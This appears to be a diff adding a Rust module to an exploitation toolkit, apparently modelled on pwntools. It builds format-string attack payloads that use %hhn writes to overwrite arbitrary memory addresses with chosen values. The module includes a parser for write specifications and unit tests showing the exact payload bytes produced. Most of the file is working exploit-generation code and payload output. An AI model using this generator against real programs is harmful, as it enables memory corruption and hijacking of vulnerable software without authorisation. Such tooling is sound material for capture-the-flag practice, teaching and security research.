@@ -0,0 +1,169 @@
+use anyhow::{bail, Context, Result};
+use std::collections::BTreeMap;
+
+use super::packing::{pack64, parse_number, Endian};
+
+// size of the addresses placed behind the format string (64-bit targets)
+const ADDRESS_SIZE: usize = 8;
+
+// split every write of word_size bytes into single byte writes
+fn byte_writes(writes: &BTreeMap<u64, u64>, word_size: usize) -> Vec<(u64, u8)> {
+    let mut bytes = vec![];
+    for (&address, &value) in writes {
+        for i in 0..word_size {
+            bytes.push((address + i as u64, (value >> (i * 8)) as u8));
+        }
+    }
+    // writing the bytes in ascending order keeps the padding small
+    bytes.sort_by_key(|&(address, value)| (value, address));
+    bytes
+}
+
+// format string that writes the bytes, the first address is argument first_arg
+fn format_writes(bytes: &[(u64, u8)], first_arg: usize) -> Vec<u8> {
+    let mut fmt = String::new();
+    let mut printed: usize = 0;
+    for (i, &(_, value)) in bytes.iter().enumerate() {
+        // %hhn stores the number of printed chars mod 256
+        let pad = (value as usize).wrapping_sub(printed) % 256;
+        if pad > 0 {
+            fmt += &format!("%{}c", pad);
+            printed += pad;
+        }
+        fmt += &format!("%{}$hhn", first_arg + i);
+    }
+    fmt.into_bytes()
+}
+
+// builds a payload that writes value to address for every entry of writes using byte-wise %hhn
+// writes. offset is the argument index of the first word of the payload on the stack, word_size is
+// the number of bytes written per value. the payload is the format string padded to a multiple
+// of 8 bytes followed by the 64-bit target addresses
+pub fn fmtstr_payload(
+    offset: usize,
+    writes: &BTreeMap<u64, u64>,
+    word_size: usize,
+) -> Result<Vec<u8>> {
+    if !matches!(word_size, 1 | 2 | 4 | 8) {
+        bail!("Unsupported word size {}", word_size);
+    }
+    let bytes = byte_writes(writes, word_size);
+
+    // the argument indices depend on the length of the format string and vice versa, grow the
+    // space reserved for the format string until it fits
+    let mut words = 0;
+    let mut fmt = format_writes(&bytes, offset);
+    while fmt.len() > words * ADDRESS_SIZE {
+        words = (fmt.len() + ADDRESS_SIZE - 1) / ADDRESS_SIZE;
+        fmt = format_writes(&bytes, offset + words);
+    }
+
+    fmt.resize(words * ADDRESS_SIZE, b'a');
+    for (address, _) in bytes {
+        fmt.extend_from_slice(&pack64(address, Endian::Little));
+    }
+    Ok(fmt)
+}
+
+// parse format string input such as: 6@0x601020=0x41,0x601028=0xdead@2
+pub fn parse_fmtstr(input: &str) -> Result<(usize, BTreeMap<u64, u64>, usize)> {
+    let parts: Vec<&str> = input.split('@').collect();
+    let (offset, writes, word_size) = match parts.as_slice() {
+        [offset, writes] => (*offset, *writes, 8),
+        [offset, writes, word_size] => (
+            *offset,
+            *writes,
+            word_size
+                .trim()
+                .parse()
+                .context("Unable to parse word size")?,
+        ),
+        _ => bail!("Malformed format string input"),
+    };
+    let offset = offset.trim().parse().context("Unable to parse offset")?;
+
+    let mut parsed = BTreeMap::new();
+    for write in writes.split(',').filter(|w| !w.trim().is_empty()) {
+        let (address, value) = write
+            .split_once('=')
+            .context(format!("Missing value in write {}", write))?;
+        let address = parse_number(address).context("Unable to parse address")?;
+        let value = parse_number(value).context("Unable to parse value")?;
+        parsed.insert(address, value);
+    }
+    if parsed.is_empty() {
+        bail!("No writes given");
+    }
+
+    Ok((offset, parsed, word_size))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn writes(entries: &[(u64, u64)]) -> BTreeMap<u64, u64> {
+        entries.iter().copied().collect()
+    }
+
+    #[test]
+    fn test_fmtstr_payload() {
+        // matches fmtstr_payload(6, {0x601020: 0x41}, write_size='byte') of pwntools
+        assert_eq!(
+            fmtstr_payload(6, &writes(&[(0x601020, 0x41)]), 1).unwrap(),
+            b"%65c%8$hhnaaaaaa\x20\x10\x60\x00\x00\x00\x00\x00"
+        );
+
+        // bytes are written in ascending order, the index grows to two digits
+        assert_eq!(
+            fmtstr_payload(6, &writes(&[(0x1000, 0x4142)]), 2).unwrap(),
+            [
+                &b"%65c%9$hhn%1c%10$hhnaaaa"[..],
+                &b"\x01\x10\x00\x00\x00\x00\x00\x00"[..],
+                &b"\x00\x10\x00\x00\x00\x00\x00\x00"[..],
+            ]
+            .concat()
+        );
+
+        // the counter wraps around for smaller bytes, zero bytes at the start need no padding
+        assert_eq!(
+            fmtstr_payload(1, &writes(&[(0x10, 0xff00)]), 2).unwrap(),
+            [
+                &b"%4$hhn%255c%5$hhn"[..],
+                &b"aaaaaaa"[..],
+                &b"\x10\x00\x00\x00\x00\x00\x00\x00"[..],
+                &b"\x11\x00\x00\x00\x00\x00\x00\x00"[..],
+            ]
+            .concat()
+        );
+        assert!(fmtstr_payload(6, &writes(&[(0x10, 1)]), 3).is_err());
+    }
+
+    #[test]
+    fn test_fmtstr_payload_64bit() {
+        let payload = fmtstr_payload(6, &writes(&[(0x601020, 0xdeadbeef)]), 8).unwrap();
+        let fmt_len = payload.len() - 8 * ADDRESS_SIZE;
+        assert_eq!(fmt_len % ADDRESS_SIZE, 0);
+
+        // the four zero bytes come first and need no padding
+        let first_arg = 6 + fmt_len / ADDRESS_SIZE;
+        assert!(payload.starts_with(format!("%{}$hhn", first_arg).as_bytes()));
+        assert_eq!(
+            &payload[fmt_len..fmt_len + ADDRESS_SIZE],
+            &pack64(0x601024, Endian::Little)
+        );
+    }
+
+    #[test]
+    fn test_parse_fmtstr() {
+        let (offset, parsed, word_size) = parse_fmtstr("6@0x601020=0x41, 4096=1").unwrap();
+        assert_eq!(offset, 6);
+        assert_eq!(parsed, writes(&[(0x601020, 0x41), (0x1000, 1)]));
+        assert_eq!(word_size, 8);
+
+        assert_eq!(parse_fmtstr("6@0x10=1@2").unwrap().2, 2);
+        assert!(parse_fmtstr("6@").is_err());
+        assert!(parse_fmtstr("6@0x10").is_err());
+        assert!(parse_fmtstr("x@0x10=1").is_err());
+    }
+}